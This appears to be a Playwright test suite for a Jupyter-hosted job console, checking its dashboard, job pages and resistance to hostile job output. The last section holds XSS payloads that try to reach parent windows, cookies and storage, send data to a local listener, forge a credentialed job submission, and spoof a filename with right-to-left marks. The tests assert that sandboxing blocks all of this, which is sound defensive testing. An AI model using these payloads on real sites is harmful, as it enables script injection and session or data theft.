"""The console in Chromium, through Jupyter's relay under a base URL: the dashboard, the page of a job, hostile jobs."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.worker import HandWorker
from tests.jupyter import Lab

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def jupyter(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    folder = tmp_path_factory.mktemp("console")
    with Lab(folder / "root", folder / "data", app="server", ZWORKER_MODE="none") as lab:
        yield lab


@pytest.fixture
def worker(jupyter: Lab, request: pytest.FixtureRequest) -> Iterator[HandWorker]:
    """A worker of the test's own, which takes no jobs that others left."""
    worker = HandWorker(jupyter.url, jupyter.token, re.sub(r"\W", "-", request.node.name)[:60])
    yield worker
    worker.close()


def open_console(page: Page, jupyter: Lab, path: str = "") -> None:
    page.goto(f"{jupyter.url}zbrain{path}?token={jupyter.token}")


def row(page: Page, name: str) -> Locator:
    return page.locator(".zb-jobs tbody tr").filter(has=page.get_by_role("link", name=name, exact=True))


def test_dashboard_shows_jobs_as_they_change(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    worker.submit(name="first")
    open_console(page, jupyter)
    expect(row(page, "first").locator(".zb-word")).to_have_text("Pending")
    expect(page.locator(".zb-live")).to_have_text("Live")
    (job_id,) = worker.start()
    expect(row(page, "first").locator(".zb-word")).to_have_text("Running")
    worker.send(job_id, "progress", progress={"fraction": 0.25, "note": "a quarter"})
    expect(row(page, "first").get_by_role("progressbar")).to_have_attribute("aria-valuenow", "25")
    expect(row(page, "first").locator("[data-c=reason]")).to_have_text("a quarter")
    worker.submit(name="second")
    expect(row(page, "second").locator(".zb-word")).to_have_text("Pending")
    worker.send(job_id, "failed", error={"ename": "ValueError", "evalue": "no", "traceback": []}, exit_code=1)
    expect(row(page, "first").locator("[data-c=reason]")).to_have_text("ValueError: no")
    expect(page.locator(".zb-seg [data-pick=failed]")).to_have_text("Failed1")
    chart = "Jobs waiting for their first start at the end of each minute over 40 minutes, now "
    depth = re.compile(rf"^Queued [\d,]+ .*{chart}[\d,]+")
    expect(page.get_by_role("button", name=depth)).to_be_visible()
    expect(page.locator(".zb-lanes .zb-span[data-state=failed]")).to_have_attribute(
        "title", re.compile("first: failed")
    )
    expect(page.locator(".zb-lane-name", has_text=worker.name)).to_be_visible()
    worker.post("jobs/cancel", {"ids": [worker.submit(name="third")[0]]})
    expect(row(page, "third").locator(".zb-word")).to_have_text("Canceled")


@pytest.mark.parametrize(
    ("idle_hours", "said"),
    [
        (1, r"Running jobs keep the server beside it from being culled until (\w+ )?\d\d:\d\d\."),
        (25, r"The server beside it may be culled while jobs run: nobody did anything there for 25 h\."),
    ],
)
def test_dashboard_says_at_a_worker_how_long_its_jobs_keep_the_server_beside_it(
    jupyter: Lab, worker: HandWorker, page: Page, idle_hours: float, said: str
) -> None:
    worker.submit()
    worker.start()
    culling = {"active_at": time.time() - 3600 * idle_hours, "cap_secs": 86_400}
    worker.post(f"workers/{worker.name}/heartbeat", {"health": {"culling": culling}})
    open_console(page, jupyter)
    note = page.locator(".zb-lane-name", has_text=worker.name).locator("xpath=..").locator("~ .zb-lane-note").first
    expect(note).to_have_text(re.compile(said))


def test_dashboard_shows_limits_and_says_when_no_socket_is_left(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    worker.post("orgs/default/limits", {"pending": 1_000, "sockets": 1})
    try:
        open_console(page, jupyter)
        expect(page.get_by_role("meter")).to_have_count(2)
        expect(page.get_by_role("meter", name=re.compile(r"^waiting [\d,]+ of 1,000$"))).to_be_visible()
        expect(page.locator(".zb-live")).to_have_text("Live")
        second = page.context.new_page()
        open_console(second, jupyter)
        expect(second.locator(".zb-notice")).to_contain_text("The server answers: the org default follows events by 1")
        page.close()
        expect(second.locator(".zb-live")).to_have_text("Live")
    finally:
        worker.post("orgs/default/limits", {})
    expect(second.get_by_role("meter")).to_have_count(0)


def test_keyboard_filters_moves_selects_acts_and_opens(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    worker.submit(name="keys-a")
    worker.submit(name="keys-b")
    (other,) = worker.submit(name="other")
    open_console(page, jupyter)
    expect(row(page, "other")).to_be_visible()
    page.keyboard.press("/")
    page.keyboard.type("keys-")
    expect(row(page, "other")).to_have_count(0)
    expect(page.locator(".zb-vh[role=status]").last).to_have_text("2 jobs shown")
    page.get_by_label("Filter jobs").press("Tab")
    page.locator(".zb-top").click()
    page.keyboard.press("j")
    expect(page.get_by_role("link", name="keys-b")).to_be_focused()
    page.keyboard.press("x")
    page.keyboard.press("j")
    expect(page.get_by_role("link", name="keys-a")).to_be_focused()
    page.keyboard.press("x")
    expect(page.locator(".zb-bulk")).to_contain_text("2 selected")
    page.keyboard.press("k")
    expect(page.get_by_role("link", name="keys-b")).to_be_focused()
    page.get_by_role("button", name="Cancel 2").click()
    expect(row(page, "keys-a").locator(".zb-word")).to_have_text("Canceled")
    expect(row(page, "keys-b").locator(".zb-word")).to_have_text("Canceled")
    page.get_by_label("Select all shown").check()
    page.get_by_role("button", name="Retry 2").click()
    expect(page.locator(".zb-jobs tbody tr[data-state=pending]")).to_have_count(2)
    assert worker.get(f"jobs/{other}")["state"] == "pending"
    page.get_by_role("link", name="keys-b").last.focus()
    page.keyboard.press("Enter")
    expect(page.locator(".zb-jobhead h1")).to_contain_text("keys-b")
    assert "/base/zbrain/jobs/" in page.url
    page.get_by_role("link", name="Jobs").first.click()
    expect(row(page, "other")).to_be_visible()


def test_groups_are_folded_counted_and_chosen_whole(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    for rate in ("0.1", "0.2"):
        worker.submit(3, name=f"sweep {rate}", tags={"lr": rate})
    open_console(page, jupyter)
    page.get_by_label("Filter jobs").fill("sweep")
    page.get_by_label("Group by").select_option("By tag lr")
    groups = page.locator(".zb-grouprow")
    expect(groups).to_have_count(2)
    expect(groups.first).to_contain_text("0.2")
    expect(groups.first).to_contain_text("3 pending")
    groups.first.get_by_role("button").click()
    expect(row(page, "sweep 0.2")).to_have_count(3)
    groups.last.get_by_role("checkbox").check()
    expect(page.locator(".zb-bulk")).to_contain_text("3 selected")
    page.get_by_role("button", name="Cancel 3").click()
    expect(groups.last).to_contain_text("3 canceled")


def test_thousands_of_rows_cost_as_much_as_those_in_sight(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    worker.submit(1, name="the oldest of many")
    worker.submit(2500, name="many")
    open_console(page, jupyter)
    expect(page.locator(".zb-end")).to_contain_text(re.compile("^[0-9,]+ jobs"), timeout=20_000)
    page.get_by_label("Filter jobs").fill("many")
    expect(page.locator(".zb-vh[role=status]").last).to_have_text("2,501 jobs shown")
    assert page.locator(".zb-jobs tbody tr").count() < 60
    assert int(page.locator(".zb-jobs").get_attribute("aria-rowcount") or 0) == 2502
    page.locator(".zb-jobsbox").evaluate("box => { box.scrollTop = box.scrollHeight; }")
    expect(row(page, "the oldest of many")).to_be_visible()
    assert page.locator(".zb-jobs tbody tr").count() < 60
    page.get_by_role("button", name="Submitted").click()
    page.locator(".zb-jobsbox").evaluate("box => { box.scrollTop = 0; }")
    expect(page.locator(".zb-jobs tbody a").first).to_have_text("the oldest of many")
    page.get_by_label("Select all shown").check()
    page.get_by_role("button", name="Cancel 2,501").click()
    expect(page.locator(".zb-jobs tbody tr[data-state=pending]")).to_have_count(0, timeout=20_000)


def test_page_of_a_job_has_its_log_outputs_files_attempts_and_code(
    jupyter: Lab, worker: HandWorker, page: Page
) -> None:
    (job_id,) = worker.submit(code="x = 1\nx + 1", name="a cell", env={"HF_HOME": "secret"}, input={"epochs": 3})
    worker.start()
    worker.log(job_id, "one", "two")
    open_console(page, jupyter, f"/jobs/{job_id}")
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Running")
    expect(page.locator(".zb-lines")).to_contain_text("two")
    worker.log(job_id, "three")
    expect(page.locator(".zb-lines")).to_contain_text("three")
    worker.display(job_id, {"text/html": "<table><tr><td>cell of a table</td></tr></table>", "text/plain": "table"})
    page.get_by_role("tab", name="Outputs").click()
    expect(page.frame_locator(".zb-panel iframe").get_by_role("cell")).to_have_text("cell of a table")
    digest = worker.blob(b"a,b\n1,2\n")
    kept = [{"name": "data/table.csv", "sha256": digest, "size": 8}]
    used = {"peak_memory_mb": 5427.2, "cpu_secs": 858}
    worker.send(job_id, "completed", output="2", artifacts=kept, exit_code=0, **used)
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Succeeded")
    page.get_by_role("tab", name="Artifacts").click()
    expect(page.locator(".zb-peek td").first).to_have_text("a")
    with page.expect_download() as download:
        page.get_by_role("link", name="Download data/table.csv").click()
    assert download.value.suggested_filename == "table.csv"
    page.get_by_role("tab", name="Artifacts").press("ArrowRight")
    expect(page.get_by_role("tab", name="Attempts")).to_be_focused()
    expect(page.locator(".zb-panel tbody tr")).to_contain_text("1 of 1")
    expect(page.locator(".zb-panel tbody tr")).to_contain_text(worker.name)
    expect(page.locator(".zb-panel tbody tr")).to_contain_text("5.3 GB14:18")
    page.keyboard.press("End")
    expect(page.locator(".zb-src")).to_contain_text("x + 1")
    about = page.get_by_role("complementary")
    expect(about).to_contain_text("HF_HOME")
    expect(about).to_contain_text("epochs")
    expect(about).to_contain_text("Peak memory5.3 GBCPU time14:18")
    assert "secret" not in (page.text_content("body") or "")
    page.get_by_role("button", name="Run again").click()
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Pending")
    assert job_id not in page.url
    page.get_by_role("tab", name="Attempts").click()
    expect(page.get_by_label("Jobs of this chain").get_by_role("row")).to_have_count(3)
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Canceled")
    page.go_back()
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Succeeded")


def test_failed_job_opens_at_its_error_and_unknown_one_says_so(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    (job_id,) = worker.submit(code="1 / 0", name="broken")
    worker.start()
    worker.send(job_id, "failed", error={"ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": []})
    open_console(page, jupyter, f"/jobs/{job_id}")
    expect(page.get_by_role("tab", selected=True)).to_have_text("Error")
    expect(page.locator(".zb-exc")).to_have_text("ZeroDivisionError: division by zero")
    for unknown in ("01936b1e-0000-7000-8000-000000000000", "no%20such"):
        page.goto(f"{jupyter.url}zbrain/jobs/{unknown}")
        expect(page.locator(".zb-notice")).to_have_text("The server does not know this job.")
        assert "when last heard of" not in (page.text_content("main") or "")


def test_page_of_a_job_lets_go_on_who_waits_for_it(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    (job_id,) = worker.submit(code="slow()", name="held")
    worker.start()
    open_console(page, jupyter, f"/jobs/{job_id}")
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Running")
    detach = page.get_by_role("button", name="Detach")
    expect(detach).to_have_count(0)
    page.evaluate(
        """id => {
            const api = `${location.href.replace(/jobs.*/, '').replace(/^http/, 'ws')}api/`;
            window.waiter = new WebSocket(`${api}events?topics=jobs/${id}&waits=1`);
            window.heard = new Promise((resolve) => { waiter.onmessage = ({ data }) => resolve(data); });
        }""",
        job_id,
    )
    detach.click()
    assert "detached" in page.evaluate("heard")
    page.evaluate("waiter.close()")
    expect(detach).to_have_count(0)
    expect(page.locator(".zb-jobhead h1")).to_contain_text("Running")


def test_job_without_a_log_opens_at_its_outputs_and_one_that_waits_tells_for_whom(
    jupyter: Lab, worker: HandWorker, page: Page
) -> None:
    (parent,) = worker.submit(code="plot()", name="silent")
    (child,) = worker.submit(code="then()", name="child", after=[parent])
    open_console(page, jupyter, f"/jobs/{child}")
    waits_for = page.get_by_role("list", name="Waits for").get_by_role("listitem")
    expect(waits_for).to_contain_text("Pendingsilent")
    worker.start()
    expect(waits_for).to_contain_text("Runningsilent")
    worker.display(parent, {"text/plain": "a plot"})
    worker.send(parent, "completed", exit_code=0)
    expect(waits_for).to_have_count(0)
    open_console(page, jupyter, f"/jobs/{parent}")
    expect(page.get_by_role("tab", selected=True)).to_contain_text("Outputs")
    page.get_by_role("tab", name="Log").click()
    expect(page.get_by_role("tab", selected=True)).to_contain_text("Log")  # who asks for it gets it
    worker.start()
    worker.log(child, "a line")
    worker.display(child, {"text/plain": "a plot"})
    open_console(page, jupyter, f"/jobs/{child}")
    expect(page.get_by_role("tab", selected=True)).to_contain_text("Log")


@pytest.mark.parametrize("width", [700, 420])
def test_narrow_page_has_no_sideways_scroll(jupyter: Lab, worker: HandWorker, page: Page, width: int) -> None:
    (job_id,) = worker.submit(name="narrow " + "w" * 150, code="x")
    page.set_viewport_size({"width": width, "height": 800})
    for path in ("", f"/jobs/{job_id}"):
        open_console(page, jupyter, path)
        expect(page.get_by_text("narrow").first).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_narrow_table_sorts_and_selects_all(jupyter: Lab, worker: HandWorker, page: Page) -> None:
    page.set_viewport_size({"width": 420, "height": 800})
    worker.submit(name="slim-b")
    worker.submit(name="slim-a")
    open_console(page, jupyter)
    page.get_by_label("Filter jobs").fill("slim-")
    names = page.locator(".zb-jobs tbody a")
    for order in (["slim-a", "slim-b"], ["slim-b", "slim-a"]):
        page.locator(".zb-jobs thead").get_by_role("button", name="Name").click()
        expect(names).to_have_text(order)
    page.get_by_label("Select all shown").check()
    expect(page.get_by_role("region", name="Selected jobs")).to_contain_text("2 selected")


# ---- what others wrote is hostile


class Beacon(ThreadingHTTPServer):
    """Hears whoever gets out of a page."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        beacon = self

        class Hear(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                beacon.heard.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, format: str, *args: Any) -> None: ...

        super().__init__(("127.0.0.1", 0), Hear)
        self.url = f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    server = Beacon()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def attacks(url: str, api: str) -> list[str]:
    """Return HTML that tries to act with the page's rights, or to get out."""
    reach = f"""
      const marks = [];
      const attempt = (name, act) => {{ try {{ act(); marks.push(name); }} catch (error) {{}} }};
      attempt('parent', () => {{ parent.pwned = 1; }});
      attempt('top', () => {{ top.document.body.dataset.pwned = 1; }});
      attempt('cookie', () => document.cookie);
      attempt('storage', () => localStorage.setItem('pwned', 1));
      attempt('popup', () => {{ if (!open('{url}/popup')) throw 1; }});
      fetch('{url}/fetch').catch(() => {{}});
      const body = '{{"cmd": ["true"], "name": "forged"}}';
      fetch('{api}jobs', {{method: 'POST', credentials: 'include', body}}).catch(() => {{}});
      new Image().src = '{url}/image';
      navigator.sendBeacon('{url}/beacon', 'x');
      try {{ new WebSocket('{url.replace("http", "ws")}/socket'); }} catch (error) {{}}
      try {{ new EventSource('{url}/source'); }} catch (error) {{}}
      document.body.append(Object.assign(document.createElement('p'), {{id: 'marks', textContent: marks.join()}}));
    """
    return [
        f"<p>report</p><script>{reach}</script>",
        f"<img src='{url}/img' onerror='parent.pwned=1'><svg onload='top.pwned=1'><script>top.pwned=1</script></svg>",
        "<a id=link href='javascript:top.pwned=1'>a link</a><iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
        f"<form action='{url}/form' method=post><input name=q></form><script>document.forms[0].submit()</script>",
        f"<link rel=stylesheet href='{url}/style'><style>@import '{url}/import'; p {{color: url({url}/b)}}</style>",
        f"<meta http-equiv=refresh content='0; url={url}/refresh'><base href='{url}/'><object data='{url}/o'></object>",
        f"<script src='{url}/script.js'></script><script type=module>import '{url}/module.js'</script>",
        "</script></iframe></body><script>top.pwned=1</script>",
        f"<script>try {{top.location.href = '{url}/top'}} catch (error) {{}} location.href = '{url}/location'</script>",
    ]


HOSTILE = "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script></svg>"
RIGHT_TO_LEFT = "\u202egpj.exe\u202c\u2066\u200f"


def assert_untouched(page: Page, worker: HandWorker, beacon: Beacon, before: int) -> None:
    """Nothing ran with the page's rights, nothing got out."""
    assert page.evaluate("[window.pwned, document.body.dataset.pwned, localStorage.pwned, sessionStorage.length]") == [
        None,
        None,
        None,
        0,
    ]
    assert beacon.heard == []
    assert "/base/zbrain" in page.url
    assert len(page.context.pages) == 1
    assert len(worker.get("jobs?limit=1000&brief=1&name=forged")["jobs"]) == before


def test_hostile_outputs_stay_in_their_frames_and_reach_nothing(
    jupyter: Lab, worker: HandWorker, page: Page, beacon: Beacon
) -> None:
    (job_id,) = worker.submit(code=HOSTILE, name="hostile outputs")
    worker.start()
    tries = attacks(beacon.url, f"{jupyter.url}zbrain/api/")
    worker.display(job_id, *({"text/html": each, "text/plain": "x"} for each in tries))
    worker.display(
        job_id,
        {"image/svg+xml": SVG, "text/plain": "x"},
        {"text/markdown": "[x](javascript:top.pwned=1) <script>top.pwned=1</script>"},
        {"application/javascript": "window.pwned = 1"},
        {"text/latex": "\\href{javascript:top.pwned=1}{x}"},
        {"image/png": "javascript:top.pwned=1", "text/plain": HOSTILE},
        {"application/vnd.zbrain.dashboard+json": {"rows": []}, "text/html": [HOSTILE, SVG]},
    )
    page.goto(f"{jupyter.url}zbrain/jobs/{job_id}?token={jupyter.token}#outputs")
    frames = page.locator(".zb-panel iframe")
    expect(frames).to_have_count(len(tries) + 1)
    for place in range(len(tries) + 1):
        assert frames.nth(place).get_attribute("sandbox") == "allow-scripts"
        assert frames.nth(place).get_attribute("srcdoc") is None
    inside = page.frame_locator(".zb-panel iframe >> nth=0")
    # Scripts of an output run, with no rights at all: none of what it tried could be done.
    expect(inside.locator("#marks")).to_have_text("")
    link = page.frame_locator(".zb-panel iframe >> nth=2").locator("#link")
    link.click()
    page.wait_for_timeout(1000)  # for what waits by itself
    assert_untouched(page, worker, beacon, 0)
    kept = "kept with the job"
    worker.send(
        job_id,
        "failed",
        error={"ename": HOSTILE, "evalue": HOSTILE, "traceback": [HOSTILE]},
        reason=HOSTILE,
        variables=[{"name": HOSTILE, "type": SVG, "summary": HOSTILE, "sha256": worker.blob(b"x"), "size": 1}],
    )
    expect(page.locator(".zb-panel")).to_contain_text(kept)
    page.get_by_role("tab", name="Error").click()
    expect(page.locator(".zb-exc")).to_contain_text("onerror")
    page.get_by_role("tab", name="Code").click()
    expect(page.locator(".zb-src")).to_contain_text("onerror")
    assert_untouched(page, worker, beacon, 0)


def test_hostile_names_logs_and_files_are_only_text(
    jupyter: Lab, worker: HandWorker, page: Page, beacon: Beacon
) -> None:
    name = f"{RIGHT_TO_LEFT}{HOSTILE}"[:190]
    tags = {HOSTILE: HOSTILE, "zbrain.notebook": f"javascript:window.pwned=1//{HOSTILE}"}
    (job_id,) = worker.submit(
        code="x", name=name, tags=tags, input={HOSTILE: HOSTILE}, env={"A": HOSTILE}, cwd=f"/{HOSTILE}"
    )
    worker.start()
    worker.log(
        job_id, HOSTILE, "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07", RIGHT_TO_LEFT, "\x1b[2J\x1b[31mred"
    )
    worker.log(job_id, "x" * 10_000_000, "after the long line", stream="stderr")
    worker.send(job_id, "progress", progress={"fraction": 0.5, "note": HOSTILE})
    page_bytes = b"<script>window.pwned=1</script>"
    kept = [
        {"name": each, "sha256": worker.blob(data), "size": len(data)}
        for each, data in (
            ("page.html", page_bytes),
            ("image.svg", SVG.encode()),
            ("x.csv", page_bytes),
            ("x.png", page_bytes),
        )
    ]
    worker.send(
        job_id, "completed", output=HOSTILE, artifacts=[*kept, {**kept[0], "name": f"a/{HOSTILE}".replace("</", "<")}]
    )
    open_console(page, jupyter)
    page.get_by_label("Filter jobs").fill("gpj.exe")
    link = page.locator(".zb-jobs tbody a").first
    expect(link).to_contain_text("\u27e8U+202E\u27e9")  # a mark that turns the text about is written out
    expect(link).to_contain_text("onerror")
    page.get_by_label("Group by").select_option("By notebook")
    expect(page.locator(".zb-grouprow")).to_contain_text("javascript:")
    page.get_by_label("Group by").select_option("No grouping")
    assert_untouched(page, worker, beacon, 0)
    link.click()
    expect(page.locator(".zb-lines")).to_contain_text("after the long line", timeout=20_000)
    expect(page.locator(".zb-lines")).to_contain_text("onerror")
    assert len(page.locator(".zb-lines").inner_text()) < 100_000
    expect(page.locator(".zb-lines a")).to_have_count(0)
    page.get_by_role("tab", name="Artifacts").click()
    expect(page.locator(".zb-arts li")).to_have_count(5)
    for name_ in ("page.html", "image.svg"):
        answer = page.request.get(f"{jupyter.url}zbrain/api/jobs/{job_id}/artifacts/{name_}")
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert "sandbox" in answer.headers["content-security-policy"]
    page.get_by_role("tab", name="Outputs").click()
    expect(page.locator(".zb-value")).to_contain_text("onerror")
    page.wait_for_timeout(300)
    assert_untouched(page, worker, beacon, 0)


def test_frame_opened_by_itself_has_no_rights(jupyter: Lab, page: Page) -> None:
    page.goto(f"{jupyter.url}zbrain/frame?token={jupyter.token}")
    assert page.evaluate("self.origin") == "null"
